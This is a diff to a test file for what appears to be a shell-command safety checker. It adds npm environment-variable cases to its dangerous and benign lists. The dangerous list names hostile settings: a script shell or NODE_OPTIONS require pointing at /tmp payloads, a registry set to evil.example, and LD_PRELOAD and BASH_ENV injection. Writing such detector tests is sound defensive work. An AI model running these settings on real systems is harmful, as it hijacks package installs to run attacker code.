@@ -475,6 +475,11 @@ add(
   'assignments',
   [
     'LD_PRELOAD=/tmp/x.so ls',
+    // npm settings other than plain switches and levels name programs or sources.
+    'npm_config_script_shell=/tmp/x npm test',
+    'NPM_CONFIG_NODE_OPTIONS=--require=/tmp/x.js npm test',
+    'npm_config_registry=http://evil.example npm install',
+    'NPM_CONFIG_LOGLEVEL="$LEVEL" npm ci',
     'PATH=/tmp ls',
     'IFS=x ls',
     'BASH_ENV=/tmp/x bash -c ls',
@@ -1039,6 +1044,10 @@ export const benignCases: readonly BenignCase[] = [
   { command: 'sudo chown -R $(whoami) ~/.npm' },
   { command: 'sudo chown -R "$(id -u):$(id -g)" node_modules' },
   { command: 'sudo cp mymodule.ko /lib/modules/$(uname -r)/extra/' },
+  // npm switches and levels set by environment.
+  { command: 'export NPM_CONFIG_LOGLEVEL=warn' },
+  { command: 'npm_config_yes=true npx create-vite@latest app' },
+  { command: 'NPM_CONFIG_LEGACY_PEER_DEPS=true npm install' },
   // `$env` is a jq variable bound by `--arg`, not the environment.
   { command: "jq --arg env prod '.environments[$env]' config.json" },
   { command: 'git clone --config core.autocrlf=false https://example.com/repo.git' },
